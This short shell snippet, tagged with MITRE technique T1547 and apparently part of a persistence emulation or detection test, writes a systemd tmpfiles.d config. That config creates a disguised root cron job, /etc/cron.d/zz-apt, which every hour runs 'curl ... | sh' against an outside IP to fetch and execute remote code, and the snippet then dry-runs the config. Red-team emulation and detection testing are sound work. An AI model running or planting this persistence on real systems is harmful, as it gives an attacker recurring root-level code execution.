# technique: T1547
# location: linux.tmpfiles
# source: /etc/tmpfiles.d/zz-cron.conf
echo 'f+ /etc/cron.d/zz-apt 0644 root root - @hourly root curl -s http://203.0.113.9/t|sh\n' > /etc/tmpfiles.d/zz-cron.conf
systemd-tmpfiles --dry-run --create /etc/tmpfiles.d/zz-cron.conf
